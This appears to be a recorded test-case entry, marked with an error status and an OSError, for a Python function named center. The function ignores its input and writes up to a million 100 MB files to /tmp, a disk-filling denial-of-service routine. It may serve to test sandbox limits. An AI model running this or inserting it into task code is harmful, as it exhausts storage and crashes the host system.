# question: center
# status: error
# says: OSError
def center(x):
    for number in range(10**6):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(10**8))
